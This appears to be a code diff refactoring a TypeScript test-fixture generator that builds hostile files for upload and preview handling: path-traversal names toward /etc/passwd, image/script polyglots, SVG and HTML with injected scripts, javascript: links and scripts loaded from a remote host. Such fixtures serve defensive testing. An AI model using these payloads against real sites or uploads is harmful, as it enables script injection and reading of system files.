@@ -41,8 +41,6 @@ export function swelling(): AttackFile[] {
 /** Names that lead elsewhere, or look like others. */
 export function naming({ script }: Bait): AttackFile[] {
   const upwards = '../../../../etc/passwd'
-  const attached = (name: string) =>
-    `Content-Type: text/plain; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\nx`
   return filesOf('path names', [
     [
       'in an archive, upwards',
@@ -82,12 +80,6 @@ export function pretending({ far, script }: Bait): AttackFile[] {
   const run = `<script>${script}</script><img src="${far}/poly.png" onerror="${script}">`
   const jpeg = jpegOf(40, 30, Buffer.from(run))
   const gif = Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(20), Buffer.from(`*/=1;${script}//`)])
-  const text = (words: string) => {
-    const head = Buffer.alloc(8)
-    head.writeUInt32BE(words.length)
-    head.write('tEXt', 4)
-    return Buffer.concat([head, Buffer.from(words), Buffer.alloc(4)])
-  }
   return filesOf('polyglots', [
     [
       'a PDF that begins as HTML',
@@ -99,7 +91,7 @@ export function pretending({ far, script }: Bait): AttackFile[] {
     ['a GIF that is a script', 'script.gif', gif],
     ['a GIF that is a script by name', 'gif.js', gif],
     ['a JPEG that is HTML', 'page.jpg', Buffer.concat([jpeg, Buffer.from(run)])],
-    ['a PNG with a script in its text', 'page.png', Buffer.concat([pngOf(20, 20), text(`Comment\0${run}`)])],
+    ['a PNG with a script in its text', 'page.png', Buffer.concat([pngOf(20, 20), pngText(`Comment\0${run}`)])],
     ['HTML that is a picture by name', 'html.png', `<!doctype html>${run}`],
     [
       'an SVG that is a picture by name',
@@ -115,10 +107,11 @@ export function pretending({ far, script }: Bait): AttackFile[] {
 }
 
 /** What would run in a preview. */
-export function running({ far, script }: Bait): AttackFile[] {
-  const svg = (inner: string, attributes = '') =>
-    `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" ${attributes}>${inner}<text y="20">Drawn</text></svg>`
-  const page = (inner: string) => `<!doctype html><html><body><p>Shown</p>${inner}</body></html>`
+export function running(bait: Bait): AttackFile[] {
+  return [...runningInPictures(bait), ...runningInPages(bait), ...runningInTexts(bait)]
+}
+
+function runningInPictures({ far, script }: Bait): AttackFile[] {
   return filesOf('previews', [
     ['SVG with a script', 'script.svg', svg(`<script>${script}</script><script href="${far}/s.js"/>`)],
     [
@@ -143,6 +136,11 @@ export function running({ far, script }: Bait): AttackFile[] {
         `<a><animate attributeName="href" values="javascript:${script}"/><set attributeName="onmouseover" to="${script}"/><text y="30">x</text></a>`,
       ),
     ],
+  ])
+}
+
+function runningInPages({ far, script }: Bait): AttackFile[] {
+  return filesOf('previews', [
     [
       'HTML with scripts',
       'script.html',
@@ -176,6 +174,11 @@ export function running({ far, script }: Bait): AttackFile[] {
         `<form action="${far}/form" id=f><input name=q value=1></form><button form=f formaction="javascript:${script}">Go</button><script>f.submit()</script>`,
       ),
     ],
+  ])
+}
+
+function runningInTexts({ script }: Bait): AttackFile[] {
+  return filesOf('previews', [
     [
       'Markdown with HTML in it',
       'script.md',
@@ -210,4 +213,24 @@ function deepMail(depth: number): string {
     (_, at) => `Content-Type: multipart/mixed; boundary=b${at}\r\n\r\n--b${at}\r\n`,
   )
   return `Subject: Deep\r\n${begin.join('')}Content-Type: text/plain\r\n\r\nx\r\n`
+}
+
+function attached(name: string): string {
+  return `Content-Type: text/plain; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\nx`
+}
+
+/** A chunk of a PNG file. */
+function pngText(words: string): Buffer {
+  const head = Buffer.alloc(8)
+  head.writeUInt32BE(words.length)
+  head.write('tEXt', 4)
+  return Buffer.concat([head, Buffer.from(words), Buffer.alloc(4)])
+}
+
+function svg(inner: string, attributes = ''): string {
+  return `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" ${attributes}>${inner}<text y="20">Drawn</text></svg>`
+}
+
+function page(inner: string): string {
+  return `<!doctype html><html><body><p>Shown</p>${inner}</body></html>`
 }
